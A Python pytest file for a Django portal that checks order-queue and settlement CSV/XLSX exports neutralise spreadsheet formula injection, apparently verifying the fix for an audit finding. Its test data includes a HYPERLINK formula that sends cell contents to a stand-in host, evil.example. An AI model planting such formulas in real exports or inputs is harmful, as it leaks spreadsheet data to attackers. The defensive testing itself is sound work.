"""Finding 3: no spreadsheet formula goes out in an export (CSV or XLSX, order queue or settlement)."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from openpyxl import load_workbook

from portal.console.exports import export_response, safe_cell
from portal.orders.models import Order
from tests.factories import ProductFactory, order_for
from tests.portal.console.downloads import download
from tests.support.db_state import load_demo

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["홍길동", "a=b", "", 5, -5, 0])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_order_queue_exports_neutralise_a_formula_name(client):
    # given an order whose orderer typed a formula as a name
    load_demo()
    order = order_for([(ProductFactory(), 1)])
    Order.objects.filter(pk=order.pk).update(orderer_name=EVIL)
    client.force_login(User.objects.get(username="operator"))
    # when the operator exports the queue
    text = download(client, "/console/orders/", {"export": "csv"}).content.decode("utf-8-sig")
    book = load_workbook(io.BytesIO(download(client, "/console/orders/", {"export": "xlsx"}).content))
    # then the name is text, not a formula, in both
    # (the name is masked in the export, 홍*동-style, and still starts with "=": it must be neutralised too)
    names = [row[2] for row in csv.reader(io.StringIO(text))]
    assert names[1].startswith("'=") and not any(name.startswith("=") for name in names)
    cells = [row[2] for row in book.active.iter_rows(values_only=True)]
    assert cells[1].startswith("'=") and not any(str(cell).startswith("=") for cell in cells)
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)


def test_settlement_and_queue_share_the_helper():
    import portal.console.mileage_views as mileage_views
    import portal.console.views as views

    assert views.export_response is export_response is mileage_views.export_response
    response = export_response([["a", "b"], ["=1", 2]], kind="xlsx", filename="x", sheet="s")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in next(sheet.iter_rows(min_row=2))] == ["'=1", 2]
